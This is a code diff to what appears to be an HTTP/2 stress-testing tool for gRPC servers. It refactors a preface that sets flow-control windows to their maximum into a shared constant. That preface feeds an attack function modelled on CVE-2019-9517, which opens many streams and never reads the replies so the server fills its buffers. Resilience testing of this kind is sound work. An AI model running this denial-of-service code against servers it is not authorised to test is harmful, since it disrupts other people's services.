@@ -20,6 +20,7 @@ COLLECT = "/flatline.v1.Stress/ClientStreaming"
 STREAM = "/flatline.v1.Stress/ServerStreaming"
 BIDI = "/flatline.v1.Stress/BidiStreaming"
 HEAD = {path: h2.block(h2.request(path)) for path in (UNARY, COLLECT, STREAM, BIDI)}
+WIDE = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW, (1 << 31) - 1)) + h2.window(0, (1 << 31) - 65536)
 ENDLESS = h2.message(b"")  # a StreamRequest without count
 STREAMS = 256  # SETTINGS_MAX_CONCURRENT_STREAMS
 ANGRY = {"ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "COMPRESSION_ERROR"}
@@ -309,10 +310,9 @@ def stalled_windows(target):
 
 @attack("wide windows and replies that nobody reads", "CVE-2019-9517")
 def unread_replies(target):
-    wide = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW, (1 << 31) - 1)) + h2.window(0, (1 << 31) - 65536)
     start = b"".join(head(i, STREAM) + h2.data(i, ENDLESS, h2.END_STREAM) for i in ids(50))
     with contextlib.ExitStack() as stack:
-        peers = [stack.enter_context(target.dial(preface=wide)) for _ in target.times(16)]
+        peers = [stack.enter_context(target.dial(preface=WIDE)) for _ in target.times(16)]
         for peer in peers:
             peer.send(start)
         with target.dial() as other:
